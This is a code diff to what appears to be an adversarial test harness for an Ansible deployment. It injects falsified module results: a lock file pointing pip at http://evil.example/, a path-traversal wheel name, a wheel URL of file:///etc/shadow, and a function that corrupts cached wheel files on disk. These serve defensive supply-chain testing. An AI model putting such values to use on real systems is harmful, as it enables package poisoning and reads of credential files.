@@ -63,6 +63,11 @@ def puts(values):
     return change
 
 
+def appends(texts):
+    """Return a change of texts of an answer: they get more at their end."""
+    return lambda honest: {**honest(), **{name: honest().get(name, "") + text for name, text in texts.items()}}
+
+
 def fact(name, value):
     """Return a change to one fact of setup."""
     return puts({"ansible_facts.ansible_" + name: value})
@@ -131,6 +136,16 @@ def plants(honest):
     return honest()
 
 
+def tampers(honest):
+    """Change a byte of each wheel that the real module has downloaded, and tell other names."""
+    answer = honest()
+    for path in glob.glob("/opt/allreduce/cache/environments/*/*.whl"):
+        with open(path, "r+b") as wheel:
+            wheel.seek(os.path.getsize(path) // 2)
+            wheel.write(b"evil")
+    return {**answer, "wheels": [{**one, "file": EVIL_WHEEL} for one in answer.get("wheels", [])]}
+
+
 def _write(path, content):
     with open(path, "wb") as out:
         out.write(content)
@@ -193,12 +208,13 @@ INTERNAL = {
 }
 ONE_ADDRESS = {"address": "0.0.0.0/0", "interface": "eth0"}
 LOCK = "--index-url http://evil.example/\n--find-links http://evil.example/x\nevil @ http://evil.example/evil-1-py3-none-any.whl\n"
-WHEEL = {
-    "file": f"../../../../{CANARY}-1-py3-none-any.whl",
-    "sha256": "0" * 64,
-    "bytes": 9,
-    "url": "file:///etc/shadow",
-}
+EVIL_WHEEL = f"../../../../{CANARY}-1-py3-none-any.whl"
+PYLOCK = f"""
+[[packages]]
+name = "evil"
+version = "1"
+wheels = [{{name = "{EVIL_WHEEL}", url = "file:///etc/shadow", hashes = {{sha256 = "{"0" * 64}"}}}}]
+"""
 
 REACH = ("--tags", "cluster_ssh,firewall")
 # Environments and what belongs to them, as before the first run.
@@ -477,22 +493,9 @@ ROUNDS = {
         "site",
         "believed",
         [
-            Lie(
-                "wheel_names_with_paths",
-                "command",
-                puts(
-                    {"stdout": f'[[packages]]\nname = "evil"\nversion = "1"\nwheels = [{{url = "{WHEEL["url"]}"}}]\n'}
-                ),
-                "pylock",
-            ),
+            Lie("wheel_names_with_paths", "command", appends({"stdout": PYLOCK}), "pylock"),
+            Lie("wheels_that_were_changed", ARCHIVE, tampers, '"state": ?"downloaded"'),
         ],
-        ("--tags", "frameworks"),
-        {"hostile": NO_ENVIRONMENT, "others": NO_ENVIRONMENT},
-    ),
-    "site_archive": Round(
-        "site",
-        "believed",
-        [Lie("wheels_of_another_lock", ARCHIVE, says({"wheels": [WHEEL], "changed": True}), '"state": ?"downloaded"')],
         ("--tags", "frameworks"),
         {"hostile": NO_ENVIRONMENT, "others": NO_ENVIRONMENT},
     ),
